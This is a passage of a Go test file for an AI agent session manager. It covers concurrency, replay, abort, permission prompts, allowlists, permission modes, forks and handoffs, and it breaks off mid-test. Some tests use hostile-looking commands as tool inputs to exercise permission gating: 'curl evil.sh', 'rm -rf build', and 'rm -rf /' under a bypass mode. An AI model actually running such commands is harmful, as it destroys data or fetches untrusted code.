package session

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/basket/agentdeck/internal/bus"
	"github.com/basket/agentdeck/internal/executor"
	"github.com/basket/agentdeck/internal/handoff"
	"github.com/basket/agentdeck/internal/permission"
	"github.com/basket/agentdeck/internal/persistence"
)

type harness struct {
	m     *Manager
	store *persistence.Store
	bus   *bus.Bus
}

func newHarness(t *testing.T, exec executor.Executor) *harness {
	t.Helper()
	store := persistence.NewStore(persistence.NewMemoryBackend())
	b := bus.New(0)
	m, err := NewManager(Config{Store: store, Bus: b, Executor: exec})
	if err != nil {
		t.Fatalf("NewManager: %v", err)
	}
	t.Cleanup(func() { _ = m.Shutdown(context.Background()) })
	return &harness{m: m, store: store, bus: b}
}

func (h *harness) start(t *testing.T, req StartRequest) *recorder {
	t.Helper()
	if req.ClientID == "" {
		req.ClientID = "client-" + uuid.NewString()
	}
	if req.WorkingDir == "" {
		req.WorkingDir = t.TempDir()
	}
	sub, err := h.m.StartOrResume(context.Background(), req)
	if err != nil {
		t.Fatalf("StartOrResume: %v", err)
	}
	return record(sub)
}

// recorder collects a subscription's events in the background.
type recorder struct {
	mu     sync.Mutex
	events []bus.Event
	// done closes once the subscription channel is closed and drained.
	done chan struct{}
}

func record(sub *bus.Subscription) *recorder {
	r := &recorder{done: make(chan struct{})}
	go func() {
		defer close(r.done)
		for ev := range sub.Ch() {
			r.mu.Lock()
			r.events = append(r.events, ev)
			r.mu.Unlock()
		}
	}()
	return r
}

func (r *recorder) ofType(typ string) []bus.Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	var out []bus.Event
	for _, ev := range r.events {
		if ev.Type == typ {
			out = append(out, ev)
		}
	}
	return out
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("timed out waiting for %s", what)
}

func shellInput(cmd string) json.RawMessage {
	out, _ := json.Marshal(map[string]string{"command": cmd})
	return out
}

// shellScript asks for one Shell tool call per prompt that cmdFor maps to a
// command, then answers and finishes the turn.
func shellScript(cmdFor func(prompt string) string) executor.ScriptFunc {
	return func(ctx context.Context, req executor.TurnRequest, emit func(executor.Event) bool) {
		if !emit(executor.Event{Kind: executor.EventInit, ResumeToken: "token-1", Commands: []string{"/help"}}) {
			return
		}
		if cmd := cmdFor(req.Prompt); cmd != "" {
			call := executor.ToolCall{ID: "tool-" + uuid.NewString(), Name: "Shell", Input: shellInput(cmd)}
			if _, ok := executor.AskTool(ctx, req, emit, call); !ok {
				return
			}
		}
		if !emit(executor.Event{Kind: executor.EventAssistant, Content: "done: " + req.Prompt}) {
			return
		}
		emit(executor.Event{Kind: executor.EventResult, Usage: executor.Usage{InputTokens: 10, OutputTokens: 5}, ContextWindow: 1000})
	}
}

func TestSendMessage_MutualExclusion(t *testing.T) {
	release := make(chan struct{})
	exec := executor.NewScripted(func(ctx context.Context, req executor.TurnRequest, emit func(executor.Event) bool) {
		select {
		case <-release:
		case <-ctx.Done():
			return
		}
		emit(executor.Event{Kind: executor.EventResult})
	})
	h := newHarness(t, exec)
	id := uuid.NewString()
	h.start(t, StartRequest{SessionID: id})

	var (
		wg      sync.WaitGroup
		started atomic.Int32
		busy    atomic.Int32
	)
	for i := 0; i < 10; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			err := h.m.SendMessage(context.Background(), id, "go")
			switch {
			case err == nil:
				started.Add(1)
			case errors.Is(err, ErrBusy):
				busy.Add(1)
			default:
				t.Errorf("SendMessage: %v", err)
			}
		}()
	}
	wg.Wait()
	if started.Load() != 1 || busy.Load() != 9 {
		t.Fatalf("started=%d busy=%d, want 1 and 9", started.Load(), busy.Load())
	}
	close(release)
	waitFor(t, "turn end", func() bool { return !h.m.Thinking(id) })
	if n := exec.MaxConcurrent(id); n != 1 {
		t.Fatalf("MaxConcurrent = %d, want 1", n)
	}
}

func TestSendMessage_UnknownSession(t *testing.T) {
	h := newHarness(t, executor.NewScripted(executor.Echo()))
	if err := h.m.SendMessage(context.Background(), uuid.NewString(), "hi"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("err = %v, want ErrNotFound", err)
	}
}

func TestJoin_ReplaysFromClientCount(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t, executor.NewScripted(executor.Echo()))
	id := uuid.NewString()
	dir := t.TempDir()
	if _, err := h.store.CreateSession(ctx, persistence.SessionRecord{ID: id, WorkingDir: dir}); err != nil {
		t.Fatalf("CreateSession: %v", err)
	}
	for i := 0; i < 5; i++ {
		msg := persistence.Message{Role: "user", Content: string(rune('a' + i)), Timestamp: time.Now()}
		if err := h.store.AppendMessage(ctx, id, msg); err != nil {
			t.Fatalf("AppendMessage: %v", err)
		}
	}
	if err := h.store.SaveUsage(ctx, id, persistence.Usage{TotalTokensUsed: 42}); err != nil {
		t.Fatalf("SaveUsage: %v", err)
	}

	indexes := func(r *recorder) []int {
		var out []int
		for _, ev := range r.ofType(bus.TypeMessage) {
			p := ev.Payload.(MessagePayload)
			if !p.IsReplay {
				t.Fatalf("replayed message not tagged: %+v", p)
			}
			out = append(out, p.Index)
		}
		return out
	}

	first := h.start(t, StartRequest{SessionID: id, WorkingDir: dir, ClientMessageCount: 3})
	waitFor(t, "first join", func() bool { return len(first.ofType(bus.TypeMessage)) == 2 })
	if got := indexes(first); !slices.Equal(got, []int{3, 4}) {
		t.Fatalf("replayed indexes = %v, want [3 4]", got)
	}
	results := first.ofType(bus.TypeResult)
	if len(results) != 1 || !results[0].Payload.(ResultPayload).IsReplay || results[0].Payload.(ResultPayload).TotalTokensUsed != 42 {
		t.Fatalf("usage replay = %+v", results)
	}

	second := h.start(t, StartRequest{SessionID: id, WorkingDir: dir})
	waitFor(t, "second join", func() bool { return len(second.ofType(bus.TypeMessage)) == 5 })
	if got := indexes(second); !slices.Equal(got, []int{0, 1, 2, 3, 4}) {
		t.Fatalf("replayed indexes = %v, want 0..4", got)
	}

	over := h.start(t, StartRequest{SessionID: id, WorkingDir: dir, ClientID: "ahead", ClientMessageCount: 99})
	h.m.Leave(id, "ahead")
	<-over.done
	if got := indexes(over); len(got) != 0 {
		t.Fatalf("client ahead of history got %v", got)
	}
}

func TestJoin_SeesPendingPermissionAndBusy(t *testing.T) {
	h := newHarness(t, executor.NewScripted(shellScript(func(string) string { return "make deploy" })))
	id := uuid.NewString()
	dir := t.TempDir()
	h.start(t, StartRequest{SessionID: id, WorkingDir: dir})
	if err := h.m.SendMessage(context.Background(), id, "ship it"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "permission request", func() bool { return len(h.m.PendingPermissions(id)) == 1 })

	late := h.start(t, StartRequest{SessionID: id, WorkingDir: dir, ClientMessageCount: 1})
	waitFor(t, "late join", func() bool { return len(late.ofType(bus.TypePermissionRequest)) == 1 })
	thinking := late.ofType(bus.TypeThinking)
	if len(thinking) == 0 || !thinking[0].Payload.(ThinkingPayload).Thinking {
		t.Fatalf("late joiner thinking = %+v", thinking)
	}
	req := late.ofType(bus.TypePermissionRequest)[0].Payload.(PermissionRequestPayload)
	if req.Pattern != "Shell(make deploy)" {
		t.Fatalf("pattern = %q", req.Pattern)
	}
}

func TestAbort_ClearsObligations(t *testing.T) {
	h := newHarness(t, executor.NewScripted(shellScript(func(p string) string {
		if p == "danger" {
			return "rm -rf build"
		}
		return ""
	})))
	ctx := context.Background()
	id := uuid.NewString()
	rec := h.start(t, StartRequest{SessionID: id})

	if err := h.m.SendMessage(ctx, id, "danger"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "permission request", func() bool { return len(h.m.PendingPermissions(id)) == 1 })

	if err := h.m.Abort(ctx, id); err != nil {
		t.Fatalf("Abort: %v", err)
	}
	if n := len(h.m.PendingPermissions(id)); n != 0 {
		t.Fatalf("pending after abort = %d", n)
	}
	if h.m.Thinking(id) {
		t.Fatal("still thinking after abort")
	}
	waitFor(t, "cancel broadcast", func() bool {
		for _, ev := range rec.ofType(bus.TypePermissionResolved) {
			if ev.Payload.(PermissionResolvedPayload).Cancelled {
				return true
			}
		}
		return false
	})

	if err := h.m.SendMessage(ctx, id, "safe"); err != nil {
		t.Fatalf("SendMessage after abort: %v", err)
	}
	waitFor(t, "second turn", func() bool { return !h.m.Thinking(id) })
}

type manualTurn struct {
	req     executor.TurnRequest
	ch      chan executor.Event
	aborted atomic.Bool
}

func (t *manualTurn) Events() <-chan executor.Event { return t.ch }
func (t *manualTurn) Abort()                        { t.aborted.Store(true) }

// manualExec hands every turn to the test, which feeds its events.
type manualExec struct {
	turns chan *manualTurn
}

func (e *manualExec) Start(_ context.Context, req executor.TurnRequest) (executor.Turn, error) {
	t := &manualTurn{req: req, ch: make(chan executor.Event)}
	e.turns <- t
	return t, nil
}

func (e *manualExec) next(t *testing.T) *manualTurn {
	t.Helper()
	select {
	case turn := <-e.turns:
		return turn
	case <-time.After(3 * time.Second):
		t.Fatal("timed out waiting for an executor turn")
		return nil
	}
}

type authorizeResult struct {
	decision permission.Decision
	err      error
}

// authorizeAsync calls the turn's authorization callback the way an
// executor would and delivers the outcome on the returned channel.
func (t *manualTurn) authorizeAsync(id, tool string, input json.RawMessage) <-chan authorizeResult {
	out := make(chan authorizeResult, 1)
	go func() {
		d, err := t.req.Authorize(context.Background(), id, tool, input)
		out <- authorizeResult{decision: d, err: err}
	}()
	return out
}

func TestAbort_IgnoresStrayEvents(t *testing.T) {
	ctx := context.Background()
	exec := &manualExec{turns: make(chan *manualTurn, 4)}
	h := newHarness(t, exec)
	id := uuid.NewString()
	h.start(t, StartRequest{SessionID: id})

	if err := h.m.SendMessage(ctx, id, "one"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	first := <-exec.turns
	if err := h.m.Abort(ctx, id); err != nil {
		t.Fatalf("Abort: %v", err)
	}
	if !first.aborted.Load() {
		t.Fatal("executor turn was not signalled")
	}
	first.ch <- executor.Event{Kind: executor.EventAssistant, Content: "stray"}
	first.ch <- executor.Event{Kind: executor.EventResult}
	close(first.ch)
	if h.m.Thinking(id) {
		t.Fatal("stray result changed busy state")
	}

	if err := h.m.SendMessage(ctx, id, "two"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	second := <-exec.turns
	second.ch <- executor.Event{Kind: executor.EventAssistant, Content: "fresh"}
	second.ch <- executor.Event{Kind: executor.EventResult}
	close(second.ch)
	waitFor(t, "second turn", func() bool { return !h.m.Thinking(id) })

	msgs, err := h.store.RecentMessages(ctx, id, 0)
	if err != nil {
		t.Fatalf("RecentMessages: %v", err)
	}
	var got []string
	for _, m := range msgs {
		got = append(got, m.Content)
	}
	if !slices.Equal(got, []string{"one", "two", "fresh"}) {
		t.Fatalf("history = %v", got)
	}
}

func TestExecutorError_ClearsBusyKeepsPending(t *testing.T) {
	ctx := context.Background()
	exec := &manualExec{turns: make(chan *manualTurn, 1)}
	h := newHarness(t, exec)
	id := uuid.NewString()
	rec := h.start(t, StartRequest{SessionID: id})
	if err := h.m.SendMessage(ctx, id, "go"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	turn := exec.next(t)
	defer close(turn.ch)
	answer := turn.authorizeAsync("toolu_1", "Shell", shellInput("rm -rf build"))
	waitFor(t, "permission request", func() bool { return len(h.m.PendingPermissions(id)) == 1 })

	turn.ch <- executor.Event{Kind: executor.EventError, Error: "model overloaded"}
	waitFor(t, "error broadcast", func() bool { return len(rec.ofType(bus.TypeError)) == 1 })
	if h.m.Thinking(id) {
		t.Fatal("busy not cleared after executor error")
	}
	if msg := rec.ofType(bus.TypeError)[0].Payload.(ErrorPayload).Message; msg != "model overloaded" {
		t.Fatalf("error message = %q", msg)
	}
	if n := len(h.m.PendingPermissions(id)); n != 1 {
		t.Fatalf("pending after executor error = %d, want 1", n)
	}

	before := len(rec.ofType(bus.TypeThinking))
	err := h.m.RespondPermission(ctx, PermissionResponse{
		SessionID: id,
		RequestID: "toolu_1",
		Behavior:  permission.BehaviorAllow,
	})
	if err != nil {
		t.Fatalf("late RespondPermission: %v", err)
	}
	select {
	case got := <-answer:
		if got.err != nil || got.decision.Behavior != permission.BehaviorAllow {
			t.Fatalf("executor got %+v, %v", got.decision, got.err)
		}
	case <-time.After(3 * time.Second):
		t.Fatal("executor callback never returned")
	}
	if !h.m.Thinking(id) {
		t.Fatal("busy not set again after resolution")
	}
	waitFor(t, "thinking=true broadcast", func() bool {
		evs := rec.ofType(bus.TypeThinking)
		return len(evs) > before && evs[len(evs)-1].Payload.(ThinkingPayload).Thinking
	})

	turn.ch <- executor.Event{Kind: executor.EventResult}
	waitFor(t, "turn end", func() bool { return !h.m.Thinking(id) })
}

func TestRemember_PrefixAutoApprovesLaterTurn(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t, executor.NewScripted(shellScript(func(p string) string {
		switch p {
		case "run tests":
			return "npm test"
		case "watch tests":
			return "npm test -- --watch"
		}
		return ""
	})))
	id := uuid.NewString()
	rec := h.start(t, StartRequest{SessionID: id, WorkingDir: "/repo"})

	if err := h.m.SendMessage(ctx, id, "run tests"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "permission request", func() bool { return len(rec.ofType(bus.TypePermissionRequest)) == 1 })
	req := rec.ofType(bus.TypePermissionRequest)[0].Payload.(PermissionRequestPayload)
	if req.Pattern != "Shell(npm test)" {
		t.Fatalf("pattern = %q", req.Pattern)
	}
	if err := h.m.RespondPermission(ctx, PermissionResponse{
		SessionID: id,
		RequestID: req.RequestID,
		Behavior:  permission.BehaviorAllow,
		Remember:  true,
	}); err != nil {
		t.Fatalf("RespondPermission: %v", err)
	}
	waitFor(t, "first result", func() bool { return len(rec.ofType(bus.TypeResult)) == 1 })

	tools, _ := h.store.SessionAllowedTools(ctx, id)
	if !slices.Equal(tools, []string{"Shell(npm test)"}) {
		t.Fatalf("persisted allowlist = %v", tools)
	}
	allowed := rec.ofType(bus.TypeAllowedTools)
	last := allowed[len(allowed)-1].Payload.(AllowedToolsPayload)
	if !slices.Equal(last.Tools, []string{"Shell(npm test)"}) {
		t.Fatalf("broadcast allowlist = %v", last.Tools)
	}

	waitFor(t, "idle", func() bool { return !h.m.Thinking(id) })
	if err := h.m.SendMessage(ctx, id, "watch tests"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "second result", func() bool { return len(rec.ofType(bus.TypeResult)) == 2 })
	if n := len(rec.ofType(bus.TypePermissionRequest)); n != 1 {
		t.Fatalf("permission requests = %d, want no new prompt", n)
	}
}

func TestRemember_GlobalAppliesToOtherSessions(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t, executor.NewScripted(shellScript(func(string) string { return "go vet ./..." })))
	a, b := uuid.NewString(), uuid.NewString()
	recA := h.start(t, StartRequest{SessionID: a})
	recB := h.start(t, StartRequest{SessionID: b})

	if err := h.m.SendMessage(ctx, a, "check"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "permission request", func() bool { return len(h.m.PendingPermissions(a)) == 1 })
	req := h.m.PendingPermissions(a)[0]
	if err := h.m.RespondPermission(ctx, PermissionResponse{
		SessionID: a, RequestID: req.ID, Behavior: permission.BehaviorAllow, Remember: true, Global: true,
	}); err != nil {
		t.Fatalf("RespondPermission: %v", err)
	}
	waitFor(t, "global broadcast to other session", func() bool { return len(recB.ofType(bus.TypeGlobalAllowedTools)) == 2 })
	waitFor(t, "turn a", func() bool { return len(recA.ofType(bus.TypeResult)) == 1 })

	if err := h.m.SendMessage(ctx, b, "check"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "turn b", func() bool { return len(recB.ofType(bus.TypeResult)) == 1 })
	if n := len(recB.ofType(bus.TypePermissionRequest)); n != 0 {
		t.Fatalf("session b prompted %d times despite global approval", n)
	}
	global, _ := h.store.GlobalAllowedTools(ctx)
	if !slices.Equal(global, []string{"Shell(go vet ./...)"}) {
		t.Fatalf("persisted global = %v", global)
	}
}

func TestRespondPermission_DenyAndUnknown(t *testing.T) {
	ctx := context.Background()
	var decided atomic.Value
	exec := executor.NewScripted(func(ctx context.Context, req executor.TurnRequest, emit func(executor.Event) bool) {
		d, ok := executor.AskTool(ctx, req, emit, executor.ToolCall{ID: "t1", Name: "Bash", Input: shellInput("curl evil.sh")})
		if !ok {
			return
		}
		decided.Store(d)
		emit(executor.Event{Kind: executor.EventResult})
	})
	h := newHarness(t, exec)
	id := uuid.NewString()
	h.start(t, StartRequest{SessionID: id})
	if err := h.m.SendMessage(ctx, id, "fetch"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "permission request", func() bool { return len(h.m.PendingPermissions(id)) == 1 })

	err := h.m.RespondPermission(ctx, PermissionResponse{SessionID: id, RequestID: "nope", Behavior: permission.BehaviorAllow})
	if !errors.Is(err, permission.ErrNotFound) {
		t.Fatalf("unknown request err = %v", err)
	}
	if err := h.m.RespondPermission(ctx, PermissionResponse{
		SessionID: id, RequestID: "t1", Behavior: permission.BehaviorDeny, Message: "not on prod", Remember: true,
	}); err != nil {
		t.Fatalf("RespondPermission: %v", err)
	}
	waitFor(t, "turn end", func() bool { return !h.m.Thinking(id) })
	d := decided.Load().(permission.Decision)
	if d.Behavior != permission.BehaviorDeny || d.Message != permission.DenyMessage("not on prod") {
		t.Fatalf("decision = %+v", d)
	}
	if tools, _ := h.store.SessionAllowedTools(ctx, id); len(tools) != 0 {
		t.Fatalf("deny remembered a pattern: %v", tools)
	}
}

func TestAllowDirectory_ApprovesSiblingWrites(t *testing.T) {
	ctx := context.Background()
	outside := t.TempDir()
	writeTo := func(p string) json.RawMessage {
		out, _ := json.Marshal(map[string]string{"file_path": p, "content": "x"})
		return out
	}
	var step atomic.Int32
	exec := executor.NewScripted(func(ctx context.Context, req executor.TurnRequest, emit func(executor.Event) bool) {
		n := step.Add(1)
		call := executor.ToolCall{ID: uuid.NewString(), Name: "Write", Input: writeTo(outside + "/a.txt")}
		if n > 1 {
			call.Input = writeTo(outside + "/b.txt")
		}
		if _, ok := executor.AskTool(ctx, req, emit, call); !ok {
			return
		}
		emit(executor.Event{Kind: executor.EventResult})
	})
	h := newHarness(t, exec)
	id := uuid.NewString()
	rec := h.start(t, StartRequest{SessionID: id})

	if err := h.m.SendMessage(ctx, id, "write a"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "permission request", func() bool { return len(h.m.PendingPermissions(id)) == 1 })
	req := h.m.PendingPermissions(id)[0]
	if err := h.m.RespondPermission(ctx, PermissionResponse{
		SessionID: id, RequestID: req.ID, Behavior: permission.BehaviorAllow, AllowDirectory: true,
	}); err != nil {
		t.Fatalf("RespondPermission: %v", err)
	}
	waitFor(t, "idle", func() bool { return !h.m.Thinking(id) })
	dirs, _ := h.store.AllowedDirectories(ctx, id)
	if !slices.Equal(dirs, []string{outside}) {
		t.Fatalf("allowed directories = %v", dirs)
	}

	if err := h.m.SendMessage(ctx, id, "write b"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "second result", func() bool { return len(rec.ofType(bus.TypeResult)) == 2 })
	if n := len(rec.ofType(bus.TypePermissionRequest)); n != 1 {
		t.Fatalf("permission requests = %d, want 1", n)
	}
}

func TestPermissionModes(t *testing.T) {
	tests := []struct {
		name    string
		mode    string
		command string
		prompts bool
	}{
		{"default asks", "default", "mkdir -p out", true},
		{"accept-edits allows file commands", "accept-edits", "mkdir -p out && touch out/x", false},
		{"accept-edits asks for others", "accept-edits", "curl example.com", true},
		{"bypass allows everything", "bypass", "rm -rf /", false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := newHarness(t, executor.NewScripted(shellScript(func(string) string { return tt.command })))
			id := uuid.NewString()
			rec := h.start(t, StartRequest{SessionID: id, PermissionMode: tt.mode})
			if err := h.m.SendMessage(context.Background(), id, "go"); err != nil {
				t.Fatalf("SendMessage: %v", err)
			}
			if tt.prompts {
				waitFor(t, "permission request", func() bool { return len(rec.ofType(bus.TypePermissionRequest)) == 1 })
				return
			}
			waitFor(t, "result", func() bool { return len(rec.ofType(bus.TypeResult)) == 1 })
			if n := len(rec.ofType(bus.TypePermissionRequest)); n != 0 {
				t.Fatalf("prompted %d times", n)
			}
		})
	}
}

func TestSetPermissionMode(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t, executor.NewScripted(executor.Echo()))
	id := uuid.NewString()
	rec := h.start(t, StartRequest{SessionID: id})
	if err := h.m.SetPermissionMode(ctx, id, "nonsense"); err == nil {
		t.Fatal("expected error for unknown mode")
	}
	if err := h.m.SetPermissionMode(ctx, id, "plan"); err != nil {
		t.Fatalf("SetPermissionMode: %v", err)
	}
	waitFor(t, "mode broadcast", func() bool { return len(rec.ofType(bus.TypePermissionMode)) == 1 })
	stored, _ := h.store.GetSession(ctx, id)
	if stored.PermissionMode != persistence.PermissionModePlan {
		t.Fatalf("stored mode = %q", stored.PermissionMode)
	}
}

func TestFork(t *testing.T) {
	ctx := context.Background()
	exec := executor.NewScripted(executor.Echo())
	h := newHarness(t, exec)
	src := uuid.NewString()
	if _, err := h.store.CreateSession(ctx, persistence.SessionRecord{ID: src, WorkingDir: t.TempDir(), Name: "main"}); err != nil {
		t.Fatalf("CreateSession: %v", err)
	}
	if err := h.store.AddSessionAllowedTool(ctx, src, "Bash(make)"); err != nil {
		t.Fatalf("AddSessionAllowedTool: %v", err)
	}
	rec := h.start(t, StartRequest{SessionID: src})

	if _, err := h.m.Fork(ctx, src, ""); !errors.Is(err, ErrNoResumeToken) {
		t.Fatalf("fork before first turn err = %v", err)
	}

	if err := h.m.SendMessage(ctx, src, "hello"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "first turn", func() bool { return len(rec.ofType(bus.TypeResult)) == 1 })
	srcRec, _ := h.store.GetSession(ctx, src)
	if srcRec.ResumeToken == "" {
		t.Fatal("resume token not captured from init event")
	}

	fork, err := h.m.Fork(ctx, src, "")
	if err != nil {
		t.Fatalf("Fork: %v", err)
	}
	if fork.ForkedFrom != src || fork.ResumeToken != srcRec.ResumeToken || fork.Name != "main (fork)" {
		t.Fatalf("fork record = %+v", fork)
	}
	waitFor(t, "fork broadcast", func() bool { return len(rec.ofType(bus.TypeSessionForked)) == 1 })
	if tools, _ := h.store.SessionAllowedTools(ctx, fork.ID); !slices.Equal(tools, []string{"Bash(make)"}) {
		t.Fatalf("fork allowlist = %v", tools)
	}
	if n, _ := h.store.CountMessages(ctx, fork.ID); n != 0 {
		t.Fatalf("fork history = %d entries, want empty", n)
	}

	forkRec := h.start(t, StartRequest{SessionID: fork.ID})
	for i, prompt := range []string{"branch", "continue"} {
		if err := h.m.SendMessage(ctx, fork.ID, prompt); err != nil {
			t.Fatalf("SendMessage: %v", err)
		}
		want := i + 1
		waitFor(t, "fork turn", func() bool { return len(forkRec.ofType(bus.TypeResult)) == want })
	}
	var forkReqs []executor.TurnRequest
	for _, r := range exec.Requests() {
		if r.SessionID == fork.ID {
			forkReqs = append(forkReqs, r)
		}
	}
	if len(forkReqs) != 2 {
		t.Fatalf("fork turns = %d", len(forkReqs))
	}
	if !forkReqs[0].Fork || forkReqs[0].ResumeToken != srcRec.ResumeToken {
		t.Fatalf("first fork turn = %+v, want fork from source token", forkReqs[0])
	}
	if forkReqs[1].Fork {
		t.Fatal("second fork turn branched again")
	}
}

func TestHandoff_OneMessagePerTurn(t *testing.T) {
	ctx := context.Background()
	step := make(chan struct{})
	exec := executor.NewScripted(func(ctx context.Context, req executor.TurnRequest, emit func(executor.Event) bool) {
		select {
		case <-step:
		case <-ctx.Done():
			return
		}
		emit(executor.Event{Kind: executor.EventResult})
	})
	h := newHarness(t, exec)
	target := uuid.NewString()
	h.start(t, StartRequest{SessionID: target})

	if err := h.m.SendMessage(ctx, target, "user turn"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	for _, c := range []string{"first", "second"} {
		got, err := h.m.Handoff(ctx, "other", target, c)
		if err != nil || got != handoff.Queued {
			t.Fatalf("Handoff(%q) = %q, %v", c, got, err)
		}
	}

	prompts := func() []string {
		var out []string
		for _, r := range exec.Requests() {
			out = append(out, r.Prompt)
		}
		return out
	}
	for i := 0; i < 3; i++ {
		step <- struct{}{}
		want := min(i+2, 3)
		waitFor(t, "next turn", func() bool { return len(prompts()) == want })
	}
	waitFor(t, "idle", func() bool { return !h.m.Thinking(target) })
	if got := prompts(); !slices.Equal(got, []string{"user turn", "first", "second"}) {
		t.Fatalf("turn prompts = %v", got)
	}
}

func TestHandoff_QueuedForUnloadedTarget(t *testing.T) {
	ctx := context.Background()
	exec := executor.NewScripted(executor.Echo())
	h := newHarness(t, exec)
	idle := uuid.NewString()
	h.start(t, StartRequest{SessionID: idle})

	got, err := h.m.Handoff(ctx, "other", idle, "ping")
	if err != nil || got != handoff.Delivered {
		t.Fatalf("Handoff to idle = %q, %v", got, err)
	}

	later := uuid.NewString()
	if got, err := h.m.Handoff(ctx, idle, later, "wake up"); err != nil || got != handoff.Queued {
		t.Fatalf("Handoff to unloaded = %q, %v", got, err)
	}
	rec := h.start(t, StartRequest{SessionID: later})
	waitFor(t, "delivery on start", func() bool { return len(rec.ofType(bus.TypeResult)) == 1 })
	msgs, _ := h.store.RecentMessages(ctx, later, 0)
	if len(msgs) == 0 || msgs[0].Content != "wake up" {
		t.Fatalf("history = %+v", msgs)
	}
}

func TestShutdown_CancelsPendingAndUnloads(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t, executor.NewScripted(shellScript(func(string) string { return "deploy" })))
	id := uuid.NewString()
	h.start(t, StartRequest{SessionID: id})
	if err := h.m.SendMessage(ctx, id, "go"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "permission request", func() bool { return len(h.m.PendingPermissions(id)) == 1 })
	if err := h.m.Shutdown(ctx); err != nil {
		t.Fatalf("Shutdown: %v", err)
	}
	if h.m.Loaded() != 0 {
		t.Fatalf("loaded = %d after shutdown", h.m.Loaded())
	}
	rec, err := h.store.GetSession(ctx, id)
	if err != nil || rec.Status != persistence.SessionStatusActive {
		t.Fatalf("durable record changed by shutdown: %+v, %v", rec, err)
	}
}

func TestListAndDelete(t *testing.T) {
	ctx := context.Background()
	h := newHarness(t, executor.NewScripted(executor.Echo()))
	loaded := uuid.NewString()
	dir := t.TempDir()
	h.start(t, StartRequest{SessionID: loaded, WorkingDir: dir})
	if err := h.m.SendMessage(ctx, loaded, "hi"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	waitFor(t, "turn end", func() bool { return !h.m.Thinking(loaded) })
	stored := uuid.NewString()
	if _, err := h.store.CreateSession(ctx, persistence.SessionRecord{ID: stored, WorkingDir: "/tmp"}); err != nil {
		t.Fatalf("CreateSession: %v", err)
	}

	list, err := h.m.List(ctx)
	if err != nil {
		t.Fatalf("List: %v", err)
	}
	byID := map[string]Summary{}
	for _, s := range list {
		byID[s.ID] = s
	}
	if !byID[loaded].Loaded || byID[loaded].Subscribers != 1 || byID[stored].Loaded {
		t.Fatalf("list = %+v", list)
	}

	if err := h.m.Delete(ctx, loaded); err != nil {
		t.Fatalf("Delete: %v", err)
	}
	rec, err := h.store.GetSession(ctx, loaded)
	if err != nil || rec.Status != persistence.SessionStatusArchived {
		t.Fatalf("record after delete = %+v, %v", rec, err)
	}
	if n, _ := h.store.CountMessages(ctx, loaded); n != 2 {
		t.Fatalf("history after delete = %d, want 2", n)
	}
	if err := h.m.SendMessage(ctx, loaded, "hi"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("send to deleted session err = %v", err)
	}
	list, _ = h.m.List(ctx)
	for _, s := range list {
		if s.ID == loaded {
			t.Fatalf("archived session listed: %+v", s)
		}
	}
	if err := h.m.Delete(ctx, uuid.NewString()); !errors.Is(err, ErrNotFound) {
		t.Fatalf("delete unknown err = %v", err)
	}

	back := h.start(t, StartRequest{SessionID: loaded, WorkingDir: dir})
	waitFor(t, "rejoin", func() bool { return len(back.ofType(bus.TypeMessage)) == 2 })
	rec, _ = h.store.GetSession(ctx, loaded)
	if rec.Status != persistence.SessionStatusActive {
		t.Fatalf("status after restart = %s", rec.Status)
	}
}

func TestAbort_DeliversQueuedHandoff(t *testing.T) {
	ctx := context.Background()
	exec := &manualExec{turns: make(chan *manualTurn, 2)}
	h := newHarness(t, exec)
	id := uuid.NewString()
	h.start(t, StartRequest{SessionID: id})

	if err := h.m.SendMessage(ctx, id, "user turn"); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	first := exec.next(t)
	defer close(first.ch)
	if got, err := h.m.Handoff(ctx, "other", id, "from other"); err != nil || got != handoff.Queued {
		t.Fatalf("Handoff = %q, %v", got, err)
	}
	if err := h.m.Abort(ctx, id); err != nil {
		t.Fatalf("Abort: %v", err)
	}

	second := exec.next(t)
	if second.req.Prompt != "from other" {
		t.Fatalf("turn after abort prompt = %q", second.req.Prompt)
	}
	if !h.m.Thinking(id) {
		t.Fatal("handoff turn not marked busy")
	}
	if n, _ := h.m.handoffs.Len(ctx, id); n != 0 {
		t.Fatalf("queue length after delivery = %d", n)
	}
	second.ch <- executor.Event{Kind: executor.EventResult}
	close(second.ch)
	waitFor(t, "handoff turn end", func() bool { return !h.m.Thinking(id) })
}

func TestPermissionRequestID_PendingInOneSession(t *testing.T) {
	ctx := context.Background()
	exec := &manualExec{turns: make(chan *manualTurn, 2)}
	h := newHarness(t, exec)
	a, b := uuid.NewString(), uuid.NewString()
	h.start(t, StartRequest{SessionID: a})
